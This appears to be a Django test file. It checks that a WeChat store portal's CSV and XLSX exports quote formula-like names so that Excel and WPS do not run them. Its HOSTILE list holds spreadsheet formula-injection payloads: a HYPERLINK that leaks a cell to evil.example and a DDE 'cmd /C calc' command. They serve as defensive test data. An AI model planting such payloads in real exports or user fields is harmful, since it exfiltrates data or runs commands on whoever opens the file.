"""Every export writes what a WeChat user typed as text, never as a formula (issue #10, finding 4).

Any WeChat user chooses their nickname; a store or staff name is typed by someone in a store. A cell that
starts with = + - @, a tab or a CR (full-width ＝ too, leading spaces too) is run by Excel and WPS when HQ
opens the export. Each export — every admin that exports through django-import-export, in every format
it offers, and the add-fan dashboard's workbook — is made here with hostile names and read back: no
formula, every hostile text prefixed with ' (OWASP), numbers still numbers. A new exporting admin without
a hostile row here fails ``test_every_exporting_admin_has_a_hostile_row_here``; a new hand-built workbook
or CSV writer that bypasses portal/spreadsheets.py fails the source check.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib import admin
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone
from import_export.mixins import BaseExportMixin
from openpyxl import load_workbook

from campaigns.models import Assignment
from customers.dashboard.services import acquisition_daily_build
from customers.models import Channel, ContactWay, Customer, Member
from materials.models import Folder, Material
from portal.spreadsheets import EXPORT_FORMATS, SafeExportResource, cell_neutralise
from stores.models import Staff, Store
from tests.customers.dashboard.helpers import at, follow
from tests.factories import CustomerFactory, StaffFactory, StoreFactory

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点我领券")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
           "\r=1+1", "＝1+1", "  =1+1", "-cmd|' /C calc'!A0"]
ROOT = Path(__file__).resolve().parents[2]
APPS = ("portal", "stores", "materials", "customers", "campaigns")


def runs_as_formula(value) -> bool:
    """What Excel/WPS would treat as a formula, decided here independently of portal/spreadsheets.py."""
    if not isinstance(value, str) or not value:
        return False
    if re.fullmatch(r"[+-]?\d+(\.\d+)?", value):
        return False  # a plain number typed as text
    return value[0] in "\t\r" or value.lstrip()[:1] in "=+-@＝＋－＠"


def same_text(a: str, b: str) -> bool:
    # An .xlsx cannot hold a bare CR: it reads back as a line feed.
    return a.replace("\r", "\n") == b.replace("\r", "\n")


# -- the neutraliser ------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_leading_quote(text):
    assert cell_neutralise(text) == "'" + text
    assert cell_neutralise(cell_neutralise(text)) == "'" + text  # once is enough, twice changes nothing


@pytest.mark.parametrize("value", ["王芳", "", None, 42, -7, 3.5, -0.25, Decimal("-12.50"), "-5", "+3", "-1.5", "1e3",
                                   "138****0000", "'=already quoted", "a=b", "email@example.com"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert cell_neutralise(value) == value


# -- every admin export -------------------------------------------------------------------------------------

def _stores(org) -> list:
    return [StoreFactory(code=f"X{i:03d}", name=name, region=org.east_sh) for i, name in enumerate(HOSTILE)]


def _staff(org) -> list:
    return [StaffFactory(userid=f"x-{i}", name=name, store=org.store_a) for i, name in enumerate(HOSTILE)]


def _members(org) -> list:
    return [Member.objects.create(member_no=f"X{i:04d}", name=name, level=name[:16], home_store=org.store_a,
                                  points=-5, mobile_masked="138****0000") for i, name in enumerate(HOSTILE)]


def _customers(org) -> list:
    return [CustomerFactory(external_userid=f"wmHOSTILE{i:04d}", name=name, corp_name=name, staff=org.guide_a)
            for i, name in enumerate(HOSTILE)]


def _contact_ways(org) -> list:
    return [ContactWay.objects.create(kind=ContactWay.Kind.STAFF, name=name, last_error=name, state=f"xs{i:04d}",
                                      store=org.store_a, staff=org.guide_a) for i, name in enumerate(HOSTILE)]


def _materials(org) -> list:
    from django.contrib.auth import get_user_model

    from tests.materials.helpers import script_published

    hq = get_user_model().objects.create_user(username="hostile-hq", password="pw-for-tests-2026", is_superuser=True)
    folder = Folder.objects.create(name=HOSTILE[0][:64])
    rows = [script_published(by=hq, title=f"话术{i}", text="话术", everyone=True) for i in range(len(HOSTILE))]
    for material, name in zip(rows, HOSTILE, strict=True):  # the service trims titles; an import might not
        Material.objects.filter(pk=material.pk).update(folder=folder, title=name)
    return rows


def _assignments(org) -> list:
    from campaigns.models import Assignment, Task
    from tests.campaigns.tasks.helpers import task_in

    rows = []
    for name in HOSTILE:
        task = task_in(org.store_a)
        Task.objects.filter(pk=task.pk).update(title=name)  # the service trims titles; an import might not
        rows += list(Assignment.objects.filter(task=task))
    return rows


# model → rows whose exported text is hostile (each text of HOSTILE at least once)
HOSTILE_ROWS = {Store: _stores, Staff: _staff, Member: _members, Customer: _customers, ContactWay: _contact_ways,
                Material: _materials, Assignment: _assignments}


def _exporting_admins() -> dict:
    return {model: model_admin for model, model_admin in admin.site._registry.items()
            if isinstance(model_admin, BaseExportMixin)}


def test_every_exporting_admin_has_a_hostile_row_here():
    assert set(_exporting_admins()) == set(HOSTILE_ROWS), (
        "an admin that exports must be in HOSTILE_ROWS, so that its export is tested with hostile names")


@pytest.mark.parametrize("model", list(HOSTILE_ROWS), ids=lambda m: m.__name__)
def test_every_exporting_admin_exports_through_safe_resources_in_csv_and_xlsx_only(model, hq_operator):
    model_admin = _exporting_admins()[model]
    request = RequestFactory().get("/")
    request.user = hq_operator
    for resource_class in model_admin.get_export_resource_classes(request):
        assert issubclass(resource_class, SafeExportResource), resource_class
    assert model_admin.get_export_formats() == list(EXPORT_FORMATS)


def _export(client, model, file_format: str):
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
    form = client.get(url).context["form"]
    data = {name: "on" for name, field in form.fields.items() if field.initial is True}
    index = {"csv": "0", "xlsx": "1"}[file_format]
    response = client.post(url, {**data, "format": index, "resource": "0"})
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    return response.content


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def _xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a formula in the export"
    return [cell.value for cell in cells]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("model", list(HOSTILE_ROWS), ids=lambda m: m.__name__)
def test_hostile_names_are_exported_as_text_that_does_not_run(model, file_format, client, hq_operator, org):
    HOSTILE_ROWS[model](org)
    client.force_login(hq_operator)

    content = _export(client, model, file_format)

    values = _csv_cells(content) if file_format == "csv" else _xlsx_cells(content)
    assert [v for v in values if runs_as_formula(v)] == []
    texts = [v for v in values if isinstance(v, str)]
    for hostile in HOSTILE:
        assert any(same_text(v, "'" + hostile) for v in texts), f"{hostile!r} not exported, quoted"


def test_numbers_are_not_quoted(client, hq_operator, org):
    _members(org)  # points −5
    _stores(org)[0].__class__.objects.filter(code="X000").update(latitude=Decimal("-33.86"))
    client.force_login(hq_operator)

    members = _xlsx_cells(_export(client, Member, "xlsx"))
    stores = _xlsx_cells(_export(client, Store, "xlsx"))

    assert "-5" in members and "'-5" not in members  # the member resource writes its numbers as text
    assert Decimal("-33.86") in stores or -33.86 in stores  # a number, not text


# -- the add-fan dashboard's workbook ------------------------------------------------------------------------

@pytest.mark.parametrize("group_by", ["store", "staff", "channel"])
def test_the_dashboard_export_writes_hostile_store_staff_and_channel_names_as_text(group_by, client, hq_operator,
                                                                                    org):
    day = timezone.localdate() - timedelta(days=2)
    for i, name in enumerate(HOSTILE):
        store = StoreFactory(code=f"X{i:03d}", name=name, region=org.east_sh)
        channel = Channel.objects.create(code=f"XC{i:03d}", name=name)
        follow(StaffFactory(userid=f"x-{i}", name=name, store=store), at(day, 10), channel=channel)
    acquisition_daily_build(day=day)
    client.force_login(hq_operator)

    response = client.get(reverse("admin:customers_acquisitiondaily_dashboard_export"),
                          {"group_by": group_by, "date_from": (day - timedelta(days=1)).isoformat()})

    assert response.status_code == 200
    values = _xlsx_cells(response.content)
    assert [v for v in values if runs_as_formula(v)] == []
    labels = [v for v in values if isinstance(v, str) and v.startswith("'")]
    assert len(labels) >= len(HOSTILE)
    assert any(isinstance(v, int) for v in values)  # the figures are numbers


# -- nothing else writes spreadsheets ---------------------------------------------------------------------------

def _sources():
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            if "migrations" not in path.parts and path.name != "spreadsheets.py":
                yield path, path.read_text(encoding="utf-8")


def test_hand_built_workbooks_and_csv_writers_go_through_the_neutraliser():
    offenders = []
    for path, text in _sources():
        if "Workbook(" in text and ("workbook_bytes(" not in text or re.search(r"\bbook\.save\(", text)):
            offenders.append(f"{path}: an openpyxl Workbook saved without portal.spreadsheets.workbook_bytes")
        if re.search(r"csv\.(writer|DictWriter)\(", text) and "csv_rows(" not in text:
            offenders.append(f"{path}: a csv writer without portal.spreadsheets.csv_rows")
        if re.search(r"class \w+\((import_export\.)?resources\.(Model)?Resource\)", text):
            offenders.append(f"{path}: a resource that does not derive from SafeExportResource")
    assert offenders == []
